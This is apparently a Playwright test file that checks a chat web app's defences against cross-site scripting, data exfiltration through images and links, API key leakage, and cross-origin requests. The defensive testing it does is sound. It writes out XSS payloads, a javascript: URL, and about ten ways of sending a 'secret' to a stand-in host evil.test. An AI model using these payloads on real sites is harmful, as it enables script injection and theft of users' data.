"""What comes from elsewhere, into the page and to the server behind it (W1, W3 to W7), in a browser."""

from __future__ import annotations

import json

from playwright.sync_api import expect

from tests.page.conftest import turn
from tests.page.test_payloads import FORBIDDEN, PAYLOADS, PROVOKE

EVIL = "<img src=x onerror=window.fired=1><script>window.fired=1</script>"
PIXEL = "https://evil.test/x?q=secret"


def test_names_errors_steps_and_sources_are_text(tab):
    """W4: what is no answer is never markup."""
    page = tab.page
    page.route("**/v1/models", lambda route: route.fulfill(json={"data": [
        {"id": EVIL, "file": f"{EVIL}.gguf", "embedding": False}]}))
    page.route("**/personalities", lambda route: route.fulfill(json={"personalities": [
        {"name": EVIL, "model": EVIL, "description": EVIL, "intro_dialogue": EVIL}]}))
    page.route("**/knowledge", lambda route: route.fulfill(json={"bases": [{"name": EVIL}]}))
    body = "".join(f"data: {json.dumps(event)}\n\n" for event in (
        {"step": EVIL}, {"reasoning": EVIL}, {"delta": "said"}, {"error": {"message": EVIL, "code": EVIL}}))
    page.route("**/answer*", lambda route: route.fulfill(body=body, content_type="text/event-stream")
               if route.request.method == "POST" else route.fulfill(json={"x": EVIL}))
    page.route("**/answer/*", lambda route: route.fulfill(json={"turns": [
        turn("user", EVIL), {**turn("assistant", "said"), "reasoning_content": EVIL, "model": EVIL,
                             "citations": [{"n": 1, "title": EVIL, "url": f"javascript:{EVIL}", "cited": True}]}]}))
    tab.sign_in()
    page.locator("input[type=file]").set_input_files([{"name": f"{EVIL}.txt", "mimeType": "", "buffer": EVIL.encode()}])
    expect(page.locator(".chips li")).to_have_count(1)
    page.fill("#prompt", EVIL)
    page.keyboard.press("Enter")
    expect(page.locator(".state")).to_have_text(EVIL)
    expect(page.locator(".citations li")).to_have_text(EVIL)
    page.evaluate(PROVOKE)
    page.wait_for_timeout(200)
    assert page.evaluate("window.fired") is None
    assert page.locator("#app :is(img, script, svg, iframe)").count() == 0
    assert page.locator(".citations a[href^='javascript']").count() == 0
    for text in (page.locator(".model").inner_text(), page.locator("nav .name").last.inner_text()):
        assert EVIL in text


def test_payloads_that_come_token_by_token_do_not_fire(tab):
    """W4: split wherever it can be, so that each state on the way is drawn."""
    text = "\n\n".join(PAYLOADS[-40:])
    body = "".join(f"data: {json.dumps({'delta': text[at:at + 7]})}\n\n" for at in range(0, len(text), 7))
    tab.page.route("**/answer", lambda route: route.fulfill(body=body, content_type="text/event-stream")
                   if route.request.method == "POST" else route.fallback())
    tab.sign_in()
    tab.page.evaluate("() => { window.requestAnimationFrame = (draw) => draw(); "
                      "window.setTimeout = (act, _, ...given) => act(...given); }")
    tab.send("x")
    expect(tab.page.locator(".state")).to_contain_text("The connection was lost", timeout=20_000)
    tab.page.evaluate(PROVOKE)
    assert tab.page.evaluate("window.fired") is None and not tab.foreign
    kinds = tab.page.evaluate("[...document.querySelectorAll('.text *')].map((node) => node.tagName.toUpperCase())")
    assert not FORBIDDEN & {*kinds}


def test_no_image_carries_anything_off(tab):
    """W5: neither as markdown nor as HTML, in a style or by a link that is fetched ahead."""
    ways = (f"![x]({PIXEL})", f"[![x]({PIXEL})](https://evil.test)", f"![x][1]\n\n[1]: {PIXEL}",
            f"<img src='{PIXEL}'>", f"<p style='background:url({PIXEL})'>", f"<link rel=prefetch href='{PIXEL}'>",
            f"<svg><image href='{PIXEL}'>", f"<video poster='{PIXEL}'>", f"<input type=image src='{PIXEL}'>",
            f"<table background='{PIXEL}'><tr><td>x")
    tab.shows("x", [turn(role, way) for way in ways for role in ("user", "assistant")])
    tab.sign_in()
    tab.page.locator("nav .name").click()
    expect(tab.page.locator("article")).to_have_count(2 * len(ways))
    tab.page.wait_for_timeout(200)
    assert tab.foreign == []


def test_the_key_is_nowhere_but_in_the_tab(tab):
    """W6: and a 401 of any request takes it away."""
    seen = []
    tab.page.on("request", lambda request: seen.append(request.url))
    tab.sign_in()
    tab.ask("hello")
    assert not [url for url in [*seen, tab.page.url] if tab.key in url]
    assert tab.page.evaluate("document.cookie + JSON.stringify(localStorage) + window.name") == "{}"
    assert tab.key not in tab.page.content()
    assert tab.page.evaluate("indexedDB.databases()") == [] and tab.page.evaluate("caches.keys()") == []
    tab.page.route("**/answer/*", lambda route: route.fulfill(status=401, json={"error": {"message": "Unauthorized"}}))
    tab.page.locator("nav .name").click()
    expect(tab.page.get_by_role("alert")).to_have_text("Unauthorized")
    assert tab.page.evaluate("sessionStorage.length") == 0 and tab.page.locator("article").count() == 0


def test_a_page_elsewhere_reads_nothing_sends_nothing_and_frames_nothing(browser, server):
    """W1, W3, W7: with a key even, which it does not have; there is no cookie that would stand for one."""
    context = browser.new_context(permissions=["local-network-access"])      # else Chromium itself refuses
    page = context.new_page()
    page.route("http://elsewhere.localhost/", lambda route: route.fulfill(body="", content_type="text/html"))
    page.goto("http://elsewhere.localhost/")
    fetched = """async ([url, options]) => {
        try { return (await fetch(url, options)).type; } catch (error) { return error.name; } }"""
    key = {"Authorization": f"Bearer {server.make_key()}"}
    for path, options in (("/auth", {"headers": key}), ("/auth", {}), ("/chat", {}), ("/answer", {
            "method": "POST", "headers": {**key, "Content-Type": "application/json"}, "body": '{"prompt": "x"}'})):
        assert page.evaluate(fetched, [server.url + path, options]) == "TypeError"
    assert page.evaluate(fetched, [f"{server.url}/answer", {"method": "POST", "mode": "no-cors"}]) == "opaque"
    assert page.evaluate("""(url) => new Promise((told) => { const socket = new WebSocket(url);
        socket.onopen = () => told('open'); socket.onerror = () => told('refused'); })""",
        f"{server.url.replace('http', 'ws')}/gpt-socket/assistant") == "refused"
    assert page.evaluate("""(url) => new Promise((told) => { const image = new Image();
        image.onload = () => told('there'); image.onerror = () => told('refused'); image.src = url; })""",
        f"{server.url}/answer/x/fork") == "refused"
    page.set_content(f"<iframe src='{server.url}/chat'></iframe>")
    page.wait_for_timeout(300)
    assert not [frame for frame in page.frames[1:] if frame.url.startswith(server.url)]
    page.set_content(f"<form method=post enctype=text/plain action='{server.url}/answer'><input name='x'></form>")
    with page.expect_response("**/answer") as answered:
        page.locator("form").evaluate("(form) => form.submit()")
    assert answered.value.status == 401
    assert context.cookies() == []
    context.close()
